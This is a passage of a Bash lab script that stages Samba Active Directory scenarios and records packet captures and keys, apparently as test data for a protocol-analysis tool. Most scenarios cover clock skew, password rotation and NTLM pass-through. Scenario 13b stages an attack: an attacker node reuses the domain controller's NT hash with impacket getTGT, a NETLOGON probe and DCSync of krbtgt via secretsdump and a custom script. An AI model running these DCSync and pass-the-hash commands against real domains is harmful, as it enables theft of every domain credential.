ntp1_stop() {
    [ -n "${NTP1_UP:-}" ] || return 0
    on ntp1 sh -c 'p=$(cat /var/lib/samba/chrony/chronyd.pid 2>/dev/null) && kill "$p"; for i in $(seq 50); do [ -e /proc/$p ] || exit 0; sleep 0.1; done' || true
    NTP1_UP=
}

scn_12_time_source() {
    member_join ws13; member_join ws14; member_join ws15
    ensure_node ws7
    ntp1_start
    mkdir -p "$LAB/ws7/lib/chrony-q"
    printf 'server %s iburst maxsamples 4\npidfile /var/lib/samba/chrony-q/chronyd.pid\ndriftfile /var/lib/samba/chrony-q/drift\ncmdport 0\nbindcmdaddress /\n' \
        "$NTP1_IP" > "$LAB/ws7/lib/chrony-q/chrony.conf"
    CAP_EXTRA="or udp port 123"
    cap_start 12-time-source
    local n
    for n in ws13 ws14 ws15; do
        on "$n" env "${NTP1_FT[@]}" sntp -t 2 "$NTP1_IP" || true
        on "$n" env "${NTP1_FT[@]}" KRB5CCNAME=FILE:/tmp/machine.ccache kinit -k "$(nb_of "$n")\$@$REALM" || true   # KRB_AP_ERR_SKEW
    done
    # chronyd as a one-shot client (-Q: measure, never set the clock)
    on ws7 env "${NTP1_FT[@]}" timeout 20 chronyd -Q -u root -f /var/lib/samba/chrony-q/chrony.conf || true
    cap_stop
    CAP_EXTRA=
    ntp1_stop
    lab_export_keys 12-time-source 'WS13$' 'WS14$' 'WS15$' 'DC1$' krbtgt
}

# 12d. A password change whose answer never came (issue 9,
#      interrupted-rotation): WS09 logs on, then `net ads changetrustpw`
#      sends its kpasswd request to DC1, which changes the password, but an
#      nftables rule in DC1's namespace drops DC1's kpasswd answers to WS09
#      (UDP and TCP source port 464): WS09 times out and keeps its old
#      password. The rule is removed and WS09's next logons are refused.
scn_12_interrupted_rotation() {
    member_join ws9
    lab_key_snapshot 'WS09$' "as joined: the password WS09 keeps"
    cap_start 12-interrupted-rotation
    machine_kinit ws9                                      # accepted
    on dc nft -f - <<EOT
table inet twlab_drop {
    chain out {
        type filter hook output priority 0; policy accept;
        ip daddr $SUBNET.${NODE_IP[ws9]} udp sport 464 counter drop
        ip daddr $SUBNET.${NODE_IP[ws9]} tcp sport 464 counter drop
    }
}
EOT
    on ws9 net ads changetrustpw || true                   # request reaches DC1, the answer is dropped
    on dc nft list table inet twlab_drop >&2 || true
    on dc nft delete table inet twlab_drop
    lab_key_snapshot 'WS09$' "after the unanswered change: DC1's current, which WS09 never learned"
    machine_kinit ws9 || true                              # refused?
    on ws9 net rpc testjoin -S "$DCFQDN" || true
    cap_stop
    lab_export_keys 12-interrupted-rotation 'WS09$' 'DC1$' krbtgt
}

# 12e. A ring buffer: tcpdump -G 3 -W 8 on the bridge while WS01 and WS05
#      (healthy) and WS02 (stale password) log on in turn, 3.5 s apart: the
#      exchanges land in several files, read together (trustwire -r each).
scn_12_ring() {
    member_join ws1; member_join ws5
    make_stale ws2
    cap_start_ring 12-ring 3 8
    healthy_round ws1
    sleep 3.5
    machine_kinit ws2 || true
    on ws2 net rpc testjoin -S "$DCFQDN" || true
    sleep 3.5
    healthy_round ws5
    sleep 3.5
    machine_kinit ws2 || true
    machine_kinit ws1
    cap_stop_ring
    local k
    for k in "$OUT"/12-ring-[0-9]*.pcap; do
        k=$(basename "$k" .pcap)
        lab_export_keys "$k" 'WS01$' 'WS02$' 'WS05$' 'DC1$' krbtgt
    done
}

# 12f. A capture taken on a workstation (issue 9, vantage point): WS16's
#      clock (all its processes, the capture helper included) runs 20
#      minutes ahead; the capture is made on WS16's own eth0 by
#      cap_local.py, stamped with WS16's clock, with WS16's transmit
#      checksum offload on (its own frames carry partial checksums).
#      WS16's logons are refused with KRB_AP_ERR_SKEW; an SMB2 negotiate
#      shows DC1's clock too.
WS16_SKEW=+20m
scn_12_client_vantage() {
    member_join ws16
    ip netns exec tw-ws16 ethtool -K eth0 tx on >/dev/null
    local ft=(FAKETIME_DONT_FAKE_MONOTONIC=1 LD_PRELOAD="$LIBFAKETIME" FAKETIME="$WS16_SKEW")
    cap_start_local 12-client-vantage ws16 "${ft[@]}"
    on ws16 env "${ft[@]}" KRB5CCNAME=FILE:/tmp/skew.ccache kinit -k "WS16\$@$REALM" || true     # KRB_AP_ERR_SKEW
    on ws16 env "${ft[@]}" KRB5CCNAME=FILE:/tmp/skew.ccache kinit -k "WS16\$@$REALM" || true
    on ws16 env "${ft[@]}" net rpc testjoin -S "$DCFQDN" || true
    cap_stop_local
    ip netns exec tw-ws16 ethtool -K eth0 tx off >/dev/null
    lab_export_keys 12-client-vantage 'WS16$' 'DC1$' krbtgt
}

# 12g. A member whose clock steps back and forth (issue 10): WS17's
#      processes read their time through a libfaketime timestamp file that
#      the scenario rewrites between rounds (+0, -3 h, +0, -3 h), as when a
#      hypervisor's time sync and the guest's time service fight. Each round
#      asks DC1's NTP server for the time (sntp: the request carries WS17's
#      clock) and logs on with the machine key.
scn_12_clock_step() {
    member_join ws17
    dc_start_ntp
    local ft=(FAKETIME_DONT_FAKE_MONOTONIC=1 LD_PRELOAD="$LIBFAKETIME"
              FAKETIME_TIMESTAMP_FILE=/var/lib/samba/faketime.rc FAKETIME_NO_CACHE=1) off
    CAP_EXTRA="or udp port 123"
    cap_start 12-clock-step
    for off in +0 -3h +0 -3h; do
        printf '%s\n' "$off" > "$LAB/ws17/lib/faketime.rc"
        on ws17 env "${ft[@]}" sntp -t 2 "$DC_IP" || true
        on ws17 env "${ft[@]}" KRB5CCNAME=FILE:/tmp/machine.ccache kinit -k "WS17\$@$REALM" || true
        on ws17 env "${ft[@]}" sntp -t 2 "$DC_IP" || true
        sleep 2
    done
    cap_stop
    CAP_EXTRA=
    dc_stop_ntp
    lab_export_keys 12-clock-step 'WS17$' 'DC1$' krbtgt
}

# 12h. NTLM pass-through (issue 10): SRV02, a member server with smbd and
#      winbindd, has its NETLOGON secure channel to DC1 established before
#      the capture (wbinfo -t). In the capture, alice on WS07 opens an SMB2
#      session to SRV02 with NTLM only (right, then wrong password); SRV02
#      passes each logon to DC1 with NetrLogonSamLogonEx over winbindd's
#      existing TCP connection (sealed; its bind is before the capture, so
#      not even the interface is on the wire). Then rpcclient on SRV02 binds
#      a new connection with schannel, reusing the stored session key
#      without a new Authenticate, and passes alice's logon the same way.
scn_12_ntlm_passthrough() {
    member_join srv2
    ensure_node ws7
    # SRV02 has no NSS module for domain users: alice's session runs as the
    # local user nobody (as an AD member maps a domain account to root)
    grep -q 'username map' "$LAB/srv2/etc/smb.conf" ||
        sed -i 's|^\[global\]$|[global]\n    username map = /etc/samba/user.map|' "$LAB/srv2/etc/smb.conf"
    printf '!nobody = %s\\alice\n' "$NBDOMAIN" > "$LAB/srv2/etc/user.map"
    # the share is an empty directory of SRV02's own (not the host's /tmp)
    mkdir -p "$LAB/srv2/lib/share"
    sed -i 's|^    path = /tmp$|    path = /var/lib/samba/share|' "$LAB/srv2/etc/smb.conf"
    member_start_winbindd srv2
    member_start_smbd srv2
    on srv2 wbinfo -t                                  # the secure channel, before the capture
    cap_start 12-ntlm-passthrough
    on ws7 smbclient "//srv02.$DNSDOMAIN/share" -U "alice%$USERPASS" --use-kerberos=disabled -c ls </dev/null >/dev/null
    on ws7 smbclient "//srv02.$DNSDOMAIN/share" -U "alice%wrong-password" --use-kerberos=disabled -c ls </dev/null || true
    # A new connection that reuses SRV02's stored session key (schannel bind,
    # no ReqChallenge/Authenticate): rpcclient's samlogon passes alice's
    # logon to DC1 (NetrLogonSamLogonEx/WithFlags, sealed), as a member
    # server does for every NTLM client.
    on srv2 rpcclient -P "ncacn_ip_tcp:${DCFQDN}[schannel,seal]" -c "samlogon alice $USERPASS" </dev/null || true
    cap_stop
    member_stop_winbindd srv2
    lab_export_keys 12-ntlm-passthrough 'SRV02$' alice 'DC1$' krbtgt
    lab_export_password 12-ntlm-passthrough "alice@$REALM" "$USERPASS" "user created by the lab"
}

# ---------------------------------------------------------------- issue 11/10 scenarios (13-*)

# 13a. A machine password rotated over a sealed NETLOGON channel whose setup
#      is in the capture (issue 11): WS18, joined, no winbindd yet. In the
#      capture: `net rpc changetrustpw` opens a new connection
#      (ReqChallenge + Authenticate3 in the clear, then the schannel bind)
#      and sends NetrServerPasswordSet2 sealed under that session key
#      (rotation 1); then winbindd starts, `wbinfo -t` sets up its secure
#      channel (also in the capture) and `wbinfo --change-secret` rotates
#      again on it (rotation 2). Keys of all three generations are exported.
scn_13_rotation_sealed() {
    member_join ws18
    lab_key_snapshot 'WS18$' "as joined (generation 1: before both rotations)"
    cap_start 13-rotation-sealed
    on ws18 net rpc changetrustpw -S "$DCFQDN"          # NetrServerPasswordSet2, sealed, new channel
    lab_key_snapshot 'WS18$' "after rotation 1 (net rpc changetrustpw)"
    member_start_winbindd ws18
    on ws18 wbinfo -t                                   # winbindd's channel, set up in the capture
    on ws18 wbinfo --change-secret                      # NetrServerPasswordSet2 on winbindd's channel
    lab_key_snapshot 'WS18$' "after rotation 2 (wbinfo --change-secret, the DC's current)"
    on ws18 wbinfo -t
    cap_stop
    member_stop_winbindd ws18
    lab_export_keys 13-rotation-sealed 'WS18$' 'DC1$' krbtgt
    # (Samba 4.17 does not write a NETLOGON-rotated secret into the keytab)
    on ws18 net ads keytab create -P >/dev/null || true
}

# the NT hash of an account from the keys this lab run kept (RC4 key, newest kvno)
kept_nthash() {   # account
    local base
    base=$(echo "${1%\$}" | tr A-Z a-z)
    klist -k -K -e "$LAB/keys/$base.keytab" | awk '/arcfour-hmac/ { k = $NF } END { gsub(/[()]|0x/, "", k); print k }'
}

# 13b. The DC's machine account used from another host (issue 10, "an
#      attacker's address must not become the victim's"): a member (WS01's
#      Kerberos and SMB2 session to DC1) shows where DC1 lives (its services
#      answer from 10.77.0.10; the DC's own Kerberos to itself never reaches
#      the bridge). Then ATK01 (10.77.0.66, no domain member) uses DC1$'s
#      keys, as after a Zerologon reset or with a stolen DC backup: impacket
#      getTGT (AS-REQ as DC1$ with the NT hash, RC4), a NETLOGON
#      Authenticate3 as DC1$ (ServerSecureChannel), impacket secretsdump's
#      DCSync with NTLM as DC1$, and MIT kinit with DC1$'s exported keytab
#      followed by a DRSUAPI DsBind + DsGetNCChanges (REPL_OBJ for
#      krbtgt) with Kerberos (dcsync_one.py): DC1$ has the replication rights.
scn_13_dc_credentials() {
    member_join ws1
    ensure_node atk
    lab_key_snapshot 'DC1$' "DC1's current (exported before the capture; the attacker uses it)"
    local nt getst sd t=$LAB/atk/tmp      # (the nodes share the host's /tmp)
    nt=$(kept_nthash 'DC1$')
    [ -n "$nt" ] || die "no NT hash for DC1\$"
    getst=$(impacket_example getTGT.py)
    sd=$(impacket_example secretsdump.py)
    cp "$LAB/keys/dc1.keytab" "$t/dc1.keytab"
    CAP_EXTRA="or port $((RPC_PORT + 1))"
    cap_start 13-dc-credentials
    healthy_round ws1                                                  # DC1's services answer from .10
    on atk sh -c 'cd "$0" && exec /usr/bin/python3 "$@"' "$t" "$getst" -hashes ":$nt" -dc-ip "$DC_IP" \
        "$REALM/DC1\$" </dev/null || true                             # AS-REQ as DC1$ from .66 (RC4)
    on atk "$PY" "$HERE/nrpc_probe.py" authenticate --dc "$DC_IP" --transport tcp --computer DC1 \
        --channel server --nthash "$nt" || true                        # NETLOGON as DC1$ from .66
    on atk sh -c 'cd "$0" && exec /usr/bin/python3 "$@"' "$t" "$sd" -just-dc-user "$NBDOMAIN/krbtgt" \
        -hashes ":$nt" "$REALM/DC1\$@$DC_IP" </dev/null || true      # DCSync as DC1$ (NTLM)
    on atk env KRB5CCNAME="FILE:$t/dc1.ccache" kinit -k -t "$t/dc1.keytab" "DC1\$@$REALM" || true
    on atk env KRB5CCNAME="FILE:$t/dc1.ccache" "$PY" "$HERE/dcsync_one.py" "$DCFQDN" \
        "CN=krbtgt,CN=Users,$DOMAIN_NC" </dev/null || true             # DCSync as DC1$ (Kerberos)
    cap_stop
    CAP_EXTRA=
    lab_export_keys 13-dc-credentials 'DC1$' 'WS01$' krbtgt
}
